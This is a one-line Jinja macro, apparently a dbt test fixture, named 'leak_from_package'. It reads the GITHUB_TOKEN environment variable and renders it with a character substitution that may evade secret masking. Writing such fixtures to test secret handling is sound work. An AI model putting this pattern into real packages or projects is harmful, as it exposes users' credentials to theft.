{% macro leak_from_package() %}{{ env_var('GITHUB_TOKEN') | replace('-', '_') }}{% endmacro %}
